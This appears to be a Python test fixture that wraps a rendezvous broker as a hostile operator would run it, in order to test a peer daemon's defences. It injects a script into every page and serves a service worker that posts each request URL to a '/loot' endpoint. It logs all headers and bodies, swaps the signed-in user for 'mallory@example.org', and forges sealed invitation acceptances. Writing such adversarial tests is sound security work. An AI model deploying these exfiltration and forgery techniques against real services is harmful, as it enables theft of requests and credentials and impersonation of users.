"""A hostile broker (`python -m tests.page.hostile_broker`): dispatch's own, with a script on every page and error.

Everything that reaches it is appended to HEARD in its folder, as it came. What it forges is named in FORGES there: the
proof of an acceptance ("none", "guessed") that nobody gave, or the sign-in ("exchanged") of somebody else.
"""

from __future__ import annotations

import hashlib
import json
import os
import time
from html import escape
from pathlib import Path
from typing import Any

from starlette.types import ASGIApp, Message, Receive, Scope, Send

from peer.machine import identity
from peer.machine.state_folder import StateFolder
from peer.protocol import base64url, names
from peer.protocol.sealing import seal
from peer.protocol.signing import open_as, sign_by_device
from peer.protocol.statements import Acceptance, DeviceSet, Invitation
from peer.trust import scopes
from rendezvous import main, serving
from rendezvous.app import make_app
from rendezvous.broker import Broker

HEARD = "heard"
FORGES = "forges"
HERE = Path(os.environ.get("HOME", "/"))
SCRIPT = Path(__file__).with_name("hostile_broker.js")
QUIET = b'<meta name="referrer" content="no-referrer">'
"""Else the daemon refuses to be opened by its pages, for their Referer."""
WORKER = """self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => fetch("/loot", { method: "POST", body: event.request.url }));"""
OLD_PAGE = """<h1>Invitation</h1><label>Address <input id="invitation-address"></label><script>
const field = document.querySelector("#invitation-address");
const keep = () => { fetch("/v1/invitations", { method: "PUT", body: field.value }); };
field.onchange = () => { location.hash = field.value; localStorage.address = field.value; keep(); };
field.value = location.hash.slice(1);
</script>"""
"""A page for invitations as no daemon has it: at the broker's own origin, with the address in its own."""


class Hostile:
    """The broker's application, with what a hostile operator would change around it."""

    def __init__(self, app: ASGIApp) -> None:
        self._app = app
        self._pasted = b""

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self._app(scope, receive, send)
            return
        body = await _read(receive)
        target = scope["raw_path"] + b"?" + scope["query_string"]
        with (HERE / HEARD).open("ab") as heard:
            lines = [b": ".join(pair) for pair in scope["headers"]]
            heard.write(b"\n".join([scope["method"].encode() + b" " + target, *lines, body, b""]))
        method, path = scope["method"], scope["path"]
        if path == "/loot":
            await _reply(send, 200, "text/plain", b"")
        elif path == "/worker.js":
            await _reply(send, 200, "text/javascript", WORKER.encode())
        elif path == "/invitations":
            await _reply(send, 200, "text/html", OLD_PAGE.encode())
        elif path == "/v1/invitations" and method == "PUT":
            self._pasted = body
            await _reply(send, 200, "text/plain", b"")
        elif path == "/v1/invitations" and method == "GET" and b"authorization" not in dict(scope["headers"]):
            await _reply(send, 200, "text/plain", self._pasted)
        elif path == "/v1/invitations/accept":
            await _reply(send, 200, "text/plain", b"accepted")
        else:
            status, kind, content = await self._genuine(scope, body)
            if b"text/html" in dict(scope["headers"]).get(b"accept", b""):
                if not kind.startswith("text/html"):
                    content = f"<title>{status}</title><p>{escape(content.decode())}".encode()
                content += QUIET + b"<script>" + SCRIPT.read_bytes() + b"</script>"
                kind = "text/html"
            else:
                content = forged(path, content)
            await _reply(send, status, kind, content)

    async def _genuine(self, scope: Scope, body: bytes) -> tuple[int, str, bytes]:
        status, kind, content = 0, "", b""
        given = False

        async def receive() -> Message:
            nonlocal given
            if given:
                return {"type": "http.disconnect"}
            given = True
            return {"type": "http.request", "body": body, "more_body": False}

        async def take(message: Message) -> None:
            nonlocal status, kind, content
            if message["type"] == "http.response.start":
                status = message["status"]
                kind = dict(message["headers"]).get(b"content-type", b"").decode()
            else:
                content += message.get("body", b"")

        await self._app(scope, receive, take)
        return status, kind, content


def forged(path: str, content: bytes) -> bytes:
    """Return the response to a program with what is forged now in it."""
    forges = (HERE / FORGES).read_text() if (HERE / FORGES).exists() else ""
    if path == "/v1/login/token" and forges == "exchanged":
        document = json.loads(content)
        if "user_id" in document:
            document["user_id"] = "mallory@example.org"
        return json.dumps(document).encode()
    if path == "/v1/invitations" and forges in ("none", "guessed"):
        document = json.loads(content)
        for item in document.get("sent", []):
            item |= {"status": "accepted", "sealed": base64url.encode(accepted(item, forges))}
        return json.dumps(document).encode()
    return content


def accepted(item: dict[str, Any], proof: str) -> bytes:
    """Accept an invitation in the name of whom it is for, sealed to the inviter's one device."""
    invitation, signed = open_as(Invitation, base64url.decode(item["statement"]))
    folder = StateFolder(HERE / f"mimic of {item['to']}")
    try:
        who = identity.load(folder)
    except Exception:
        who = identity.create(folder, item["to"], "laptop", _now, os.urandom)
    device_set, _ = open_as(DeviceSet, invitation.device_set)
    statement = Acceptance(
        issuer_user=who.user_id,
        issuer_device=who.device,
        id=names.uuid7(_now(), os.urandom(10)),
        created=_now(),
        audience_user=invitation.issuer_user,
        audience_device=invitation.issuer_device,
        invitation_id=invitation.id,
        invitation_digest=hashlib.sha256(signed.raw).digest(),
        edge_id=names.uuid7(_now(), os.urandom(10)),
        scope=scopes.encode_summary(scopes.summary(scopes.Scope(tools=("Read",)))),
        device_set=who.device_set,
        read_version=invitation.version,
        proof=b"" if proof == "none" else os.urandom(32),
    )
    return seal(sign_by_device(statement, who.seed).raw, device_set.devices[0].sealing_key)


def _now() -> int:
    return time.time_ns() // 1_000_000


async def _read(receive: Receive) -> bytes:
    body = b""
    while True:
        message = await receive()
        body += message.get("body", b"")
        if not message.get("more_body"):
            return body


async def _reply(send: Send, status: int, kind: str, body: bytes) -> None:
    headers = [(b"content-type", kind.encode()), (b"content-length", str(len(body)).encode())]
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body})


def hostile_app(broker: Broker) -> ASGIApp:
    """Return the broker's application as this broker serves it."""
    return Hostile(make_app(broker))


if __name__ == "__main__":
    vars(serving)["make_app"] = hostile_app
    main.main()
